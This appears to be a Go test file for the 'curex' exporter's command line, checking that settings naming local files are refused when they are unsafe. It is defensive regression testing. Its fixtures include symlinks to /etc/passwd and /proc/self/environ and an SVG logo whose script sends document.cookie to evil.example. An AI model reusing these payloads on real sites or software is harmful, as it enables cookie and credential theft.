package cli

import (
	"bytes"
	"context"
	"image"
	"image/png"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/curex/curex/exporter/api"
	"github.com/curex/curex/exporter/internal/localfile"
)

// The reproductions of issue 23, section 1, "Local files named by a
// setting": each runs the command line in a folder laid out as the
// issue's, and each failed on c00fc01 (exit 0 and the file published, or
// the path resolved against the working folder).

// intakeToken is the sandbox's token; no output may show it.
const intakeToken = "sandbox-riverbend-token"

// repo lays out files (name -> content; "->target" makes a symlink) in a
// new folder and makes it the working folder.
func repo(t *testing.T, files map[string]string) string {
	t.Helper()
	dir := t.TempDir()
	for name, data := range files {
		p := filepath.Join(dir, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		var err error
		if target, ok := strings.CutPrefix(data, "->"); ok {
			err = os.Symlink(target, p)
		} else {
			err = os.WriteFile(p, []byte(data), 0o644)
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	t.Chdir(dir)
	return dir
}

// tinyPNG is a 1x1 PNG.
func tinyPNG(t *testing.T) string {
	t.Helper()
	var b bytes.Buffer
	if err := png.Encode(&b, image.NewGray(image.Rect(0, 0, 1, 1))); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// exportIn runs curex export -q against the sandbox in the working
// folder, into out, with args after the command's own.
func exportIn(t *testing.T, url, out string, args ...string) (code int, stdout, stderr string) {
	t.Helper()
	t.Setenv(api.EnvToken, intakeToken)
	t.Setenv("CUREX_CHROMIUM", filepath.Join(t.TempDir(), "no-chromium"))
	var o, e bytes.Buffer
	// Two trees (the base curricula in English): these tests are about
	// the files settings name, not about content.
	all := append([]string{"export", "-q", "--base-url", url, "--output", out, "--cache-dir", t.TempDir(),
		"--formats", "html", "--variants", "base", "--locales", "en"}, args...)
	code = run(context.Background(), all, &o, &e)
	return code, o.String(), e.String()
}

// refused checks an export refused with exit 2, an error matching want,
// nothing published and the token shown nowhere.
func refused(t *testing.T, out string, code int, stdout, stderr, want string) {
	t.Helper()
	if code != exitUsage {
		t.Fatalf("exit %d, want %d (usage); stderr: %s", code, exitUsage, stderr)
	}
	if !regexp.MustCompile(want).MatchString(stderr) {
		t.Errorf("stderr %q, want it to match %s", stderr, want)
	}
	if _, err := os.Stat(out); !os.IsNotExist(err) {
		t.Errorf("the output folder was written (%v)", err)
	}
	if strings.Contains(stdout+stderr, intakeToken) {
		t.Errorf("the token shows in the output: %s%s", stdout, stderr)
	}
}

// TestSymlinkedLogoToEnvironRefused: brand/logo.png -> /proc/self/environ
// named by site_logo in curex.yaml: on c00fc01, export -q exited 0 and
// published the process environment as assets/logo.<hash>.png.
func TestSymlinkedLogoToEnvironRefused(t *testing.T) {
	url := sandboxURL(t)
	dir := repo(t, map[string]string{"brand/logo.png": "->/proc/self/environ", "curex.yaml": "site_logo: brand/logo.png\n"})
	out := filepath.Join(dir, "site")
	code, stdout, stderr := exportIn(t, url, out)
	refused(t, out, code, stdout, stderr, `curex\.yaml:1: site_logo: brand/logo\.png: is a symlink; curex never follows one`)
}

// TestSymlinkedFaviconToPasswdRefused: site_favicon -> /etc/passwd.
func TestSymlinkedFaviconToPasswdRefused(t *testing.T) {
	url := sandboxURL(t)
	dir := repo(t, map[string]string{"favicon.ico": "->/etc/passwd", "curex.yaml": "site_favicon: favicon.ico\n"})
	out := filepath.Join(dir, "site")
	code, stdout, stderr := exportIn(t, url, out)
	refused(t, out, code, stdout, stderr, `curex\.yaml:1: site_favicon: favicon\.ico: is a symlink`)
	if strings.Contains(stderr, "root:") {
		t.Errorf("stderr shows /etc/passwd: %s", stderr)
	}
}

// TestSVGWithScriptRefused: an SVG logo with <script> is refused, not
// sanitized: curex publishes a setting's SVG as it is or not at all.
func TestSVGWithScriptRefused(t *testing.T) {
	url := sandboxURL(t)
	dir := repo(t, map[string]string{"curex.yaml": "site_logo: logo.svg\n",
		"logo.svg": `<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("https://evil.example/?"+document.cookie)</script></svg>`})
	out := filepath.Join(dir, "site")
	code, stdout, stderr := exportIn(t, url, out)
	refused(t, out, code, stdout, stderr, `curex\.yaml:1: site_logo: logo\.svg: not what its name says: an SVG curex publishes keeps to a safe subset: element <script>`)
}

// TestPNGThatIsTextRefused: a logo.png that holds text is refused.
func TestPNGThatIsTextRefused(t *testing.T) {
	url := sandboxURL(t)
	dir := repo(t, map[string]string{"curex.yaml": "site_logo: logo.png\n", "logo.png": "HOME=/root\nCUREX_TOKEN=" + intakeToken + "\n"})
	out := filepath.Join(dir, "site")
	code, stdout, stderr := exportIn(t, url, out)
	refused(t, out, code, stdout, stderr, `curex\.yaml:1: site_logo: logo\.png: not what its name says: not a png image`)
}

// TestLogoOverTheCapRefused: a logo over localfile.MaxImage is refused,
// with the cap; from a flag too.
func TestLogoOverTheCapRefused(t *testing.T) {
	url := sandboxURL(t)
	dir := repo(t, map[string]string{"logo.png": tinyPNG(t) + strings.Repeat("\x00", localfile.MaxImage)})
	out := filepath.Join(dir, "site")
	code, stdout, stderr := exportIn(t, url, out, "--site-logo", "logo.png")
	refused(t, out, code, stdout, stderr, `--site-logo: logo\.png: \d+ bytes: too large: an image may have at most 2097152 bytes`)
}

// TestConfigElsewhereResolvesPaths: --config other/curex.yaml with
// site_logo: logo.png reads other/logo.png (c00fc01 looked for logo.png
// in the working folder and refused the run).
func TestConfigElsewhereResolvesPaths(t *testing.T) {
	url := sandboxURL(t)
	logo := tinyPNG(t)
	dir := repo(t, map[string]string{"other/curex.yaml": "site_logo: logo.png\n", "other/logo.png": logo})
	out := filepath.Join(dir, "site")
	code, _, stderr := exportIn(t, url, out, "--config", filepath.Join("other", "curex.yaml"))
	if code != exitOK {
		t.Fatalf("exit %d: %s", code, stderr)
	}
	got, _ := filepath.Glob(filepath.Join(out, "assets", "logo.*.png"))
	if len(got) != 1 {
		t.Fatalf("assets/logo.*.png: %q", got)
	}
	if data, err := os.ReadFile(got[0]); err != nil || string(data) != logo {
		t.Errorf("published logo: %d bytes, %v; want other/logo.png", len(data), err)
	}
}

// TestDotDotFromFileRefusedFromOperatorAccepted: ../x.png in curex.yaml
// leaves the file's folder and is refused; the same path on the command
// line or in the environment is the operator's and is read.
func TestDotDotFromFileRefusedFromOperatorAccepted(t *testing.T) {
	url := sandboxURL(t)
	dir := repo(t, map[string]string{"x.png": tinyPNG(t), "sub/curex.yaml": "site_logo: ../x.png\n", "sub/empty.yaml": ""})
	t.Chdir(filepath.Join(dir, "sub"))
	out := filepath.Join(dir, "site")
	code, stdout, stderr := exportIn(t, url, out)
	refused(t, out, code, stdout, stderr, `curex\.yaml:1: site_logo: \.\./x\.png: leaves the folder of the file that names it`)

	for name, args := range map[string][]string{
		"flag":        {"--config", "empty.yaml", "--site-logo", "../x.png"},
		"environment": {"--config", "empty.yaml"},
	} {
		t.Run(name, func(t *testing.T) {
			if name == "environment" {
				t.Setenv("CUREX_SITE_LOGO", "../x.png")
			}
			out := filepath.Join(t.TempDir(), "site")
			if code, _, stderr := exportIn(t, url, out, args...); code != exitOK {
				t.Fatalf("exit %d: %s", code, stderr)
			}
			if got, _ := filepath.Glob(filepath.Join(out, "assets", "logo.*.png")); len(got) != 1 {
				t.Errorf("assets/logo.*.png: %q", got)
			}
		})
	}
}

// TestThemeFileSymlinkRefused: a file of the theme folder that is a
// symlink is refused before the run (c00fc01 parsed /etc/passwd as a
// template and published the site).
func TestThemeFileSymlinkRefused(t *testing.T) {
	url := sandboxURL(t)
	dir := repo(t, map[string]string{"theme/footer.html": "->/etc/passwd", "theme/assets/site.css": "body{}"})
	out := filepath.Join(dir, "site")
	code, stdout, stderr := exportIn(t, url, out, "--theme", "theme")
	refused(t, out, code, stdout, stderr, `--theme: theme/footer\.html: is a symlink`)
}

// TestTokenFileSymlinkRefusedByCLI: token_file in a curex.yaml the
// operator names (a found one may not choose the token's file at all)
// naming a symlink, even to a real token file, is refused.
func TestTokenFileSymlinkRefusedByCLI(t *testing.T) {
	url := sandboxURL(t)
	dir := repo(t, map[string]string{"secret": intakeToken + "\n", "token": "->secret", "curex.yaml": "token_file: token\n"})
	out := filepath.Join(dir, "site")
	code, stdout, stderr := exportIn(t, url, out, "--config", "curex.yaml")
	refused(t, out, code, stdout, stderr, `curex\.yaml:1: token_file: api: read token file: token: is a symlink`)
}
